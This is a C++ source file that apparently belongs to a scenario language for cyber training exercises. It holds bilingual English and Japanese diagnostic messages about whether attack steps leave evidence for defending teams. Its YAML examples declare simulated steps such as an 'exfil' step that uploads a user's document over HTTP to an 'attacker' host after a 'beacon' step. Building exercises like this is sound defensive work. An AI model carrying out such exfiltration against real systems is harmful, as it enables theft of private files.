#include "scenario-dsl/diagnostics/explanations/explanations.h"

namespace enshu::dsl {

using enum Example::In;

Family evidence_explained() {
    return {
        {"evidence", "証拠"},
        {
            {Kind::NoEvidence,
             {"a step that leaves nothing to find", "跡の残らない手順"},
             {R"(No host that teams see keeps a trace of this step, so nobody can investigate it. Let it act on a host of the organisation, or go `via` a proxy, which logs it.)",
              R"(班に見えるホストに、この手順の跡が何も残らず、調べようがありません。組織のホストで行うか、記録を残すプロキシ経由（`via`）にしてください。)"},
             {NoFile,
              R"(do: http-upload   # straight to the attacker; nothing on the way keeps a log)",
              R"(do: http-upload
via: proxy        # its access log names the file and the moment)"}},

            {Kind::NothingToFind,
             {"an objective asks for what no step leaves", "どの手順も残さないものを求めている"},
             {R"(The objective wants a file, a log or a digest that the attack never brings there. Teams would search for something that does not exist. Ask for a trace that a step leaves; the help line names them.)",
              R"(攻撃が残さないファイル、記録、ハッシュ値を、目標が求めています。班は存在しないものを探すことになります。手順が残す跡を求めてください。跡は help の行にあります。)"},
             {ScenarioFile, R"(objectives:
  - id: cleaned
    phase: contain
    points: 50
    measure: { guest-state: { on: pc, gone: /var/spool/cron/crontabs/tanaka } })",
              R"(objectives:
  - id: cleaned
    phase: contain
    points: 50
    measure: { guest-state: { on: pc, gone: /home/tanaka/Downloads/lure.txt } })"}},

            {Kind::NothingPacked,
             {"a part of something that nobody packed", "まとめていないものの持ち出し"},
             {R"(`size` takes a part of what an `archive` step packed on the same host before, and there is none. Add that step, or name the file under `what`.)",
              R"(`size` は、同じホストで先に `archive` の手順がまとめたものの一部を持ち出しますが、その手順がありません。手順を加えるか、`what` にファイルを書いてください。)"},
             {ScenarioFile, R"(attack:
  - id: exfil
    after: beacon
    delay: 5m
    needs: beacon
    do: http-upload
    on: pc
    to: attacker
    size: 8MiB)",
              R"(attack:
  - id: exfil
    after: beacon
    delay: 5m
    needs: beacon
    do: http-upload
    on: pc
    to: attacker
    what: /home/tanaka/Documents/memo.txt)"}},

            {Kind::GuestFileMissing,
             {"a file in a machine that nothing puts there", "機械の中にないファイル"},
             {R"(The step takes a file in a machine, and nothing brings it there: not the user's documents, no share, no earlier step. It would fail on the day. Put the file into `documents` or the share's `seed`, or correct the path.)",
              R"(手順が使う機械の中のファイルが、利用者の documents にも、共有にも、先の手順にもありません。本番で失敗します。`documents` や共有の `seed` に置くか、パスを直してください。)"},
             {ScenarioFile, R"(attack:
  - id: exfil
    after: beacon
    delay: 5m
    needs: beacon
    do: http-upload
    on: pc
    to: attacker
    what: /home/tanaka/Documents/plan.txt)",
              R"(attack:
  - id: exfil
    after: beacon
    delay: 5m
    needs: beacon
    do: http-upload
    on: pc
    to: attacker
    what: /home/tanaka/Documents/memo.txt)"}},
        }};
}

} // namespace enshu::dsl
